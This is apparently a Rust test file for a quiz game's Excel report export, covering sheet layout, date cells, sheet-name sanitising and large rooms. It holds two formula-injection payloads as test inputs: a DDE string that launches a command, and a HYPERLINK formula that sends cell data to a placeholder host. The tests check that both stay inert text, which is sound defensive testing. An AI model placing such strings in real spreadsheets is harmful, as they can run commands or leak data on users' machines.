use super::*;
use crate::report::analysis::{analyse, DEFAULT_NEED_HELP_BELOW};
use crate::report::testing::{choice, report, Seat};
use calamine::{open_workbook_from_rs, Data, Reader, Xlsx};
use serde_json::json;
use std::io::Cursor;

type Book = Xlsx<Cursor<Vec<u8>>>;

fn read(bytes: Vec<u8>) -> Book {
    open_workbook_from_rs(Cursor::new(bytes)).expect("a workbook calamine can read")
}

fn cell(book: &mut Book, sheet: &str, row: u32, col: u32) -> Data {
    let range = book.worksheet_range(sheet).expect(sheet);
    range.get_value((row, col)).cloned().unwrap_or(Data::Empty)
}

const HOSTILE: &str = "=cmd|' /C calc'!A0";

/// Ada right in 1.25 s on question 1, a hostile typed answer on question 2; Bob nothing.
fn two_players() -> Vec<u8> {
    let typed = json!({"kind":"type_answer","text":HOSTILE,"accept":["Au"]});
    let r = report(
        vec![choice("Capital of France?"), typed],
        &[("Ada", 0, 2), ("Bob", 0, 2)],
        vec![
            (0, 1, 1250, Some(true), 950, json!({"choice": 0})),
            (1, 1, 3000, Some(false), 0, json!({"text": HOSTILE})),
        ],
    );
    workbook(&r, &analyse(&r, DEFAULT_NEED_HELP_BELOW)).expect("a workbook")
}

#[test]
fn the_workbook_has_a_summary_a_players_sheet_one_per_question_and_one_per_player() {
    let book = read(two_players());
    assert_eq!(
        book.sheet_names(),
        vec!["Summary", "Players", "Q1", "Q2", "P1 Ada", "P2 Bob"]
    );
}

#[test]
fn the_date_is_a_date_cell_and_times_are_numbers_in_seconds() {
    let mut book = read(two_players());
    let date = cell(&mut book, "Summary", 3, 1);
    let Data::DateTime(d) = date else {
        panic!("the date is a date cell: {date:?}");
    };
    // 2026-12-01 18:00 UTC, as an Excel serial date.
    let expected = (1_796_148_000.0 / 86_400.0) + 25_569.0;
    assert!((d.as_f64() - expected).abs() < 1e-6, "{}", d.as_f64());
    assert_eq!(cell(&mut book, "Q1", 5, 0), Data::String("Ada".into()));
    assert_eq!(cell(&mut book, "Q1", 5, 2), Data::String("right".into()));
    assert_eq!(cell(&mut book, "Q1", 5, 3), Data::Float(1.25));
    assert_eq!(cell(&mut book, "Q1", 5, 4), Data::Float(950.0));
    assert_eq!(
        cell(&mut book, "Q1", 6, 2),
        Data::String("no answer".into())
    );
    assert_eq!(cell(&mut book, "Summary", 5, 1), Data::Float(2.0));
}

#[test]
fn a_hostile_text_stays_text_and_no_cell_holds_a_formula() {
    let mut book = read(two_players());
    assert_eq!(cell(&mut book, "Q2", 0, 2), Data::String(HOSTILE.into()));
    assert_eq!(cell(&mut book, "Q2", 5, 1), Data::String(HOSTILE.into()));
    assert_eq!(
        cell(&mut book, "P1 Ada", 7, 2),
        Data::String(HOSTILE.into())
    );
    for sheet in book.sheet_names() {
        let formulas = book.worksheet_formula(&sheet).expect(&sheet);
        assert!(
            formulas.used_cells().all(|(_, _, f)| f.is_empty()),
            "{sheet} holds a formula"
        );
    }
}

#[test]
fn a_hostile_player_name_is_text_everywhere_and_its_sheet_name_is_made_safe() {
    // Names from the room cannot hold `=` today; the workbook does not rely on that.
    let name = "=HYPERLINK(\"http://x/\"&A1)[1]:?";
    let r = report(vec![choice("Q")], &[(name, 0, 1)], vec![]);
    let mut book = read(workbook(&r, &analyse(&r, 50)).expect("a workbook"));
    // `:` and `/` become `_`, and the name is cut at 31 characters.
    let sheet = "P1 =HYPERLINK(\"http___x_\"&A1)_1";
    assert_eq!(book.sheet_names()[3], sheet);
    assert_eq!(cell(&mut book, "Players", 1, 1), Data::String(name.into()));
    assert_eq!(cell(&mut book, "Q1", 5, 0), Data::String(name.into()));
    assert_eq!(cell(&mut book, sheet, 0, 1), Data::String(name.into()));
}

#[test]
fn sheet_names_are_short_unique_and_free_of_the_characters_excel_refuses() {
    assert_eq!(sheet_name(1, "Ada"), "P1 Ada");
    assert_eq!(sheet_name(2, "a[b]c:d*e?f/g\\h"), "P2 a_b_c_d_e_f_g_h");
    assert_eq!(sheet_name(3, "O'"), "P3 O");
    let long = sheet_name(4000, &"é".repeat(40));
    assert_eq!(long.encode_utf16().count(), 31, "{long}");
    // An emoji is two UTF-16 units: never cut in half.
    let emoji = sheet_name(10, &"😀".repeat(20));
    assert!(emoji.encode_utf16().count() <= 31, "{emoji}");
    for name in [long, emoji, sheet_name(3, "O'")] {
        rust_xlsxwriter::utility::check_sheet_name(&name).expect(&name);
    }
}

#[test]
fn more_players_than_sheets_allowed_leaves_them_all_on_the_players_sheet() {
    let names: Vec<String> = (0..=MAX_PLAYER_SHEETS)
        .map(|i| format!("Kid {i}"))
        .collect();
    let seats: Vec<Seat<'_>> = names.iter().map(|n| (n.as_str(), 0, 1)).collect();
    let r = report(vec![choice("Q")], &seats, vec![]);
    let mut book = read(workbook(&r, &analyse(&r, 50)).expect("a workbook"));
    assert_eq!(book.sheet_names(), vec!["Summary", "Players", "Q1"]);
    let players = book.worksheet_range("Players").expect("Players");
    assert_eq!(
        players.height(),
        MAX_PLAYER_SHEETS + 2,
        "a header and every player"
    );
    let last = names.last().expect("players");
    assert_eq!(
        cell(&mut book, "Players", MAX_PLAYER_SHEETS as u32 + 1, 1),
        Data::String(last.clone())
    );
}

#[test]
fn five_thousand_players_on_ten_questions_make_one_workbook_with_every_answer() {
    // The most players a room takes by default, each answering every question.
    const PLAYERS: u32 = 5000;
    const QUESTIONS: u32 = 10;
    let names: Vec<String> = (0..PLAYERS).map(|i| format!("Kid {i}")).collect();
    let seats: Vec<Seat<'_>> = names.iter().map(|n| (n.as_str(), 0, QUESTIONS)).collect();
    let given = (0..QUESTIONS)
        .flat_map(|q| {
            (1..=PLAYERS).map(move |p| {
                let right = (p + q) % 3 == 0;
                (
                    q,
                    p,
                    1000 + u64::from(p),
                    Some(right),
                    if right { 900 } else { 0 },
                    json!({"choice": u32::from(!right)}),
                )
            })
        })
        .collect();
    let questions = (0..QUESTIONS).map(|q| choice(&format!("Q{q}"))).collect();
    let r = report(questions, &seats, given);
    let t = analyse(&r, DEFAULT_NEED_HELP_BELOW);
    assert_eq!(t.questions[0].asked, PLAYERS);
    let mut book = read(workbook(&r, &t).expect("a workbook"));
    assert_eq!(book.sheet_names().len(), 2 + QUESTIONS as usize);
    let q10 = book.worksheet_range("Q10").expect("Q10");
    assert_eq!(
        q10.height(),
        5 + PLAYERS as usize,
        "five lines of heading, then everyone"
    );
    assert_eq!(
        cell(&mut book, "Players", PLAYERS, 1),
        Data::String("Kid 4999".into())
    );
}

#[test]
fn an_assignment_that_asks_for_an_identifier_adds_it_last_on_the_players_sheet() {
    let mut r = report(
        vec![choice("Capital of France?")],
        &[("Ada", 0, 1), ("Bob", 0, 1)],
        vec![(0, 1, 1250, Some(true), 950, json!({"choice": 0}))],
    );
    r.players[0].identifier = Some("s1234567".into());
    let mut book = read(workbook(&r, &analyse(&r, DEFAULT_NEED_HELP_BELOW)).expect("a workbook"));
    assert_eq!(
        cell(&mut book, "Players", 0, 9),
        Data::String("Identifier".into())
    );
    assert_eq!(
        cell(&mut book, "Players", 1, 9),
        Data::String("s1234567".into())
    );
    assert_eq!(
        cell(&mut book, "Players", 2, 9),
        Data::Empty,
        "Bob gave none"
    );
    // A game that asks for none has no such column.
    let mut plain = read(two_players());
    assert_eq!(cell(&mut plain, "Players", 0, 9), Data::Empty);
}
